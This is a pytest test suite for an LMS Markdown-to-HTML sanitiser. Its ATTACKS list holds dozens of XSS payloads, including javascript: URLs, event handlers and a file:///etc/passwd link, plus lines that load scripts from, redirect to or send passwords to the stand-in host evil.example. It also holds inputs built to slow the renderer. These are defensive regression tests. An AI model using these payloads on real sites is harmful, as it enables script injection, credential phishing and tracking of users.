"""What people write becomes safe HTML: Markdown as documented, and nothing that runs, tracks or hides."""

import re
from dataclasses import dataclass

import pytest
from bs4 import BeautifulSoup, Tag
from hypothesis import given
from hypothesis import strategies as st

from lms.markdown import BLOCK_TAGS, INLINE_TAGS, find_excess, render, render_inline, render_text

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "x\n{: style='position:fixed' onclick='alert(1)' }",
    "# x {onmouseover=alert(1) style=color:red}",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href=' &#1; javascript:alert(1)'>x</a>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "<a href='\\\\evil.example'>x</a>",
    "[x](http://evil.example)",
    "[x]: javascript:alert(1)\n\n[x][x]",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "<img src=//evil.example/pixel.png alt=x>",
    "<video src=https://evil.example/a.mp4 autoplay onplay=alert(1)></video>",
    "<video poster=https://evil.example/a.png></video>",
    "<audio><source src=https://evil.example/a.ogg></audio>",
    "<track src=//evil.example/a.vtt>",
    '![" onerror="alert(1)](x)',
    '[x](x "\\" onmouseover=alert(1)")',
    "<div class='button error-summary' id='main'>x</div>",
    "<p id='x\" onclick=\"alert(1)'>x</p>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "```html onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| <img src=x onerror=alert(1)> |\n| --- |\n| <script>alert(1)</script> |",
    '| x" onfocus=alert(1) autofocus x=" |\n| --- |\n| y |',
    "<table><thead><tr><th>&quot; onfocus=alert(1) autofocus &quot;</th></tr></thead></table>",
    "<img alt='<table><thead><th>\" onerror=alert(1) \"</th></thead>' src=x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<template><script>alert(1)</script></template>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '!!! note "<script>alert(1)</script>"\n    <img src=x onerror=alert(1)>',
    "!!! note evil onclick\n    x",
    "<a href=x target=_blank ping=https://evil.example>x</a>",
    "<p lang='en\" onclick=\"alert(1)'>x</p>",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
]

ATTRIBUTES = {
    *("alt", "aria-label", "class", "colspan", "controls", "datetime", "default", "dir", "height", "href", "id"),
    *("kind", "label", "lang", "open", "poster", "preload", "rel", "reversed", "role", "rowspan", "scope", "src"),
    *("srclang", "start", "tabindex", "title", "type", "width"),
}


@dataclass(frozen=True)
class Sample:
    """A text as a question holds it."""

    source: str
    format: str


def elements(html: str) -> list[Tag]:
    return [one for one in BeautifulSoup(html, "html.parser").find_all(True) if isinstance(one, Tag)]


def assert_harmless(html: str) -> None:
    for element in elements(html):
        assert element.name in INLINE_TAGS | BLOCK_TAGS
        assert set(element.attrs) <= ATTRIBUTES
        assert element.get("id") != "main"
        assert not {"button", "error-summary"} & set(element.get_attribute_list("class"))
        for name in ("href", "src", "poster"):
            address = str(element.get(name, ""))
            assert not re.search(r"[\s\\]", address)
            assert not address.startswith("//")
            assert ":" not in address.partition("/")[0] or (element.name == "a" and address.startswith("https://"))


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("kind", ["markdown", "html", "moodle", "plain"])
def test_an_attack_leaves_nothing_that_runs_or_leads_away(attack: str, kind: str) -> None:
    text = Sample(attack, kind)

    assert_harmless(str(render_text(text)))
    assert_harmless(str(render_text(text, inline=True)))


@given(st.lists(st.sampled_from([*ATTACKS, "<", ">", '"', "'", "\n\n", "- ", "    ", "|", "`", "x"]), max_size=6))
def test_attacks_put_together_leave_nothing_either(parts: list[str]) -> None:
    assert_harmless(str(render("".join(parts))))


@given(st.text(max_size=300))
def test_any_text_is_rendered(text: str) -> None:
    assert_harmless(str(render(text)))


def test_what_the_renderer_is_given_by_others_is_sanitised_too() -> None:
    html = str(render("\ue000a-1\ue001", insert={"\ue000a-1\ue001": "<b onclick=alert(1)>x</b><script>y</script>"}))

    assert html == "<p><b>x</b></p>"


class TestMarkdown:
    @pytest.mark.parametrize(
        ("source", "html"),
        [
            ("*a* **b**", "<p><em>a</em> <strong>b</strong></p>"),
            ("# A", "<h2>A</h2>"),
            ("<h1>A</h1>", "<h2>A</h2>"),
            ("## A {#a-b}", '<h2 id="a-b">A</h2>'),
            ("## Слово", "<h2>Слово</h2>"),
            ("Term\n:   Meaning", "<dl>\n<dt>Term</dt>\n<dd>Meaning</dd>\n</dl>"),
            ("[x](https://un.org/a)", '<p><a href="https://un.org/a" rel="noopener">x</a></p>'),
            ("[x](../a)", '<p><a href="../a" rel="noopener">x</a></p>'),
            ("![x](a.png)", '<p><img alt="x" src="a.png"></p>'),
            ("```\na < b\n```", "<pre><code>a &lt; b\n</code></pre>"),
            ('<span lang="ky">сабак</span>', '<p><span lang="ky">сабак</span></p>'),
        ],
    )
    def test_markdown_is_read_as_documented(self, source: str, html: str) -> None:
        assert str(render(source)) == html

    def test_footnotes_lead_there_and_back(self) -> None:
        found = {str(one["href"]) for one in elements(str(render("A[^1]\n\n[^1]: Note."))) if one.name == "a"}

        assert found == {"#fn-1", "#fnref-1"}

    def test_a_note_keeps_its_title(self) -> None:
        html = str(render('!!! warning "Careful"\n    Text.'))

        assert '<div class="admonition warning">\n<p class="admonition-title">Careful</p>' in html

    def test_films_get_controls_and_keep_their_captions(self) -> None:
        film, track = elements(str(render('<video src="a.mp4"><track kind="captions" src="a.vtt"></video>')))[:2]

        assert (film.name, "controls" in film.attrs) == ("video", True)
        assert track.attrs == {"kind": "captions", "src": "a.vtt"}

    def test_a_table_scrolls_in_a_named_region_that_the_keyboard_reaches(self) -> None:
        region = elements(str(render('| A "b" | *C* |\n| --- | ---: |\n| 1 | 2 |')))[0]

        assert region.attrs == {
            "class": ["table-scroll"],
            "tabindex": "0",
            "role": "region",
            "aria-label": 'A "b", C',
        }
        assert [cell.get("scope") for cell in region.find_all("th")] == ["col", "col"]
        assert [cell.get("class") for cell in region.find_all("td")] == [None, ["align-right"]]

    def test_links_are_resolved_before_they_are_judged(self) -> None:
        addresses = {"a.md": "/courses/a", "b.md": "javascript:alert(1)", "c.md": None}

        html = str(render("[a](a.md) [b](b.md) [c](c.md)", resolve=lambda _tag, _name, address: addresses[address]))

        assert [one.get("href") for one in elements(html) if one.name == "a"] == ["/courses/a", None, None]


class TestFormats:
    def test_plain_text_is_shown_as_written(self) -> None:
        assert str(render_text(Sample("*a* <b>\nc\n\nd", "plain"))) == "<p>*a* &lt;b&gt;<br>\nc</p>\n<p>d</p>"

    def test_moodle_text_becomes_paragraphs(self) -> None:
        assert str(render_text(Sample("*a* <b>b</b>\n\nc", "moodle"))) == "<p>*a* <b>b</b></p>\n<p>c</p>"

    def test_html_stays_html(self) -> None:
        assert str(render_text(Sample("<b>a</b> *b*", "html"))) == "<b>a</b> *b*"

    def test_inside_a_line_blocks_become_lines(self) -> None:
        assert str(render_inline("*a*\n\n- b\n- c")) == "<em>a</em><br>\nb<br>c"
        assert str(render_text(Sample("a & b", "plain"), inline=True)) == "a &amp; b"


class TestBounds:
    @pytest.mark.parametrize(
        "source",
        [
            "[" * 20_000,
            "![a](" * 5_000,
            "[a\n" * 5_000,
            "<a " * 20_000,
            "> " * 5_000 + "x",
            "- " * 3_000,
            "*a **b " * 3_000,
            "`" * 20_000,
            "x" * 200_001,
            "".join(" " * (4 * depth) + "- x\n" for depth in range(200)),
            "| " * 3_000 + "\n" + "|-" * 3_000 + "\n",
            "<table>" * 5_000,
            "(" * 20_000 + "{: .x" * 300,
        ],
        ids=["[", "![a](", "lines", "<a", ">", "-", "emphasis", "`", "long", "nested", "cells", "tables", "braces"],
    )
    def test_text_made_to_take_long_is_shown_all_the_same(self, source: str) -> None:
        assert_harmless(str(render(source)))

    def test_what_is_too_much_is_named_with_its_line(self) -> None:
        assert find_excess("fine\n\nfine\n\n" + "[" * 401) == (
            5,
            "This paragraph or table holds more than 400 brackets of one kind: split it.",
        )
        assert find_excess("fine [a](b) > c\n" * 300) is None
